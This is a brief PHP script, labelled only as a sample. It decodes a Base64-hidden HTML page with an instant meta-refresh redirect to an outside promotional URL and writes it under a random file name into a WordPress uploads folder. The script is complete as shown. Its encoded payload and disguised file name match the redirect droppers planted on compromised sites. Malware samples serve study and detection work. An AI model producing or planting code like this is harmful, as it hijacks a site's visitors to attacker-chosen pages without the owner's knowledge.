<?php
// sample: drops a page that sends visitors elsewhere, carried Base64-encoded
$blob = "PGh0bWw+PGhlYWQ+PG1ldGEgaHR0cC1lcXVpdj0icmVmcmVzaCIgY29udGVudD0iMDt1cmw9aHR0cDovL3Byb21vLmV4YW1wbGUuaW52YWxpZC9vZmZlciI+PC9oZWFkPjxib2R5PjwvYm9keT48L2h0bWw+";
$name = 'wp-content/uploads/' . substr(md5(microtime()), 0, 10) . '.html';
file_put_contents($name, base64_decode($blob));
echo 'ok';
